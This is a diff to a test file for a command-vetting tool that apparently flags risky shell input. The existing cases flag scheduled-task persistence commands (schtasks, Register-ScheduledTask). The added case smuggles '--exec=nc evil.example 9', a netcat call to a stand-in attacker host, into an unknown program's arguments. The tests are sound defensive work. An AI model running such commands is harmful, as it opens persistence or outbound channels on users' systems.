@@ -58,6 +58,8 @@ describe('a finding points at what triggered it and names the policy entry', () 
     // A Windows scheduler told to run something later: the scheduler is named, beside the registry's word (mu28w).
     [ps('schtasks /create /tn x /tr calc.exe /sc minute'), 'write.persistence', 'schtasks', /^schtasks \/create installs a scheduled task \(scheduled command\)$/],
     [ps('Register-ScheduledTask -TaskName up -Action $a'), 'write.persistence', 'Register-ScheduledTask', /^Register-ScheduledTask installs a scheduled task \(scheduled command\)$/],
+    // A program vouch does not know, handed a client: the client's word, as written (mutuc).
+    [bash('frobnicate --exec=nc evil.example 9'), 'vouch.unknown-program', '--exec=nc', /^frobnicate is a program vouch does not know, and it is given --exec=nc, a network client it may run$/],
   ];
   for (const [input, rule, text, message] of cases) {
     it(`${rule} on ${input.command}`, () => {
